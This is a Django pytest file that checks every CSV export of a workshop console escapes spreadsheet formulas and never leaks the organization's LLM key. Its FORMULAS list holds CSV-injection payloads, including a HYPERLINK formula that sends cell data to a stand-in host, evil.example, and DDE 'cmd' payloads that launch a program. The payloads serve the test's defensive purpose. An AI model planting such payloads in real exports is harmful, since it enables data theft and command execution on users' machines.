"""Every CSV the console offers (found from the URLconf: any page a member can fetch that answers text/csv)
neutralizes cells that a spreadsheet would run as a formula, and no export of any kind carries the
organization's LLM key. A new CSV export is covered without changing this test."""

import csv
import io

import pytest
from django.urls import reverse
from pypdf import PdfReader

from tests.reports.conftest import add_people
from tests.tenancy.test_isolation import MEMBER, all_routes, url_for
from tests.tenancy.test_organization_settings import settings_form
from workshop.tenancy.scope import unscoped

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
KEY = "sk-export-test-5f1c0c7e2a9b4d38a6e1"


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def formula_room(client, org_a, world):
    with unscoped():
        org_a.org.anonymity_k = 3
        org_a.org.save()
    client.force_login(org_a.admin)
    client.post(reverse("facilitator:organization"), settings_form(org_a.org, anonymity_k=3, llm_api_key=KEY))
    workshop = world["workshop"]
    with unscoped():
        workshop.title = FORMULAS[0]
        workshop.save(update_fields=["title"])
    for formula in FORMULAS:
        add_people(workshop, 3, reflection=formula, share=True)
    return workshop


def test_every_csv_export_neutralizes_formulas_and_no_export_carries_the_key(client, world, formula_room):
    exports, cells = {}, 0
    for name, params in all_routes():
        if name not in MEMBER:
            continue
        response = client.get(url_for(name, params, world))
        kind = response.get("Content-Type", "")
        if response.status_code != 200 or kind.startswith("text/html"):
            continue
        content = body_of(response)
        text = content.decode("utf-8", errors="replace")
        if kind.startswith("application/pdf"):
            text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
        assert KEY not in text, f"{name} carries the LLM key"
        if kind.startswith("text/csv"):
            exports[name] = text
            for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
                for cell in row:
                    cells += 1
                    if cell.startswith(DANGEROUS_STARTS):
                        assert is_number(cell), f"{name}: cell {cell!r} would run as a formula"

    assert len(exports) >= 2, f"expected the report and participant CSVs, found {sorted(exports)}"
    everything = "\n".join(exports.values())
    assert "'=HYPERLINK" in everything and "'@SUM(1,2)" in everything, "the payloads never reached a CSV"
    assert cells > 50
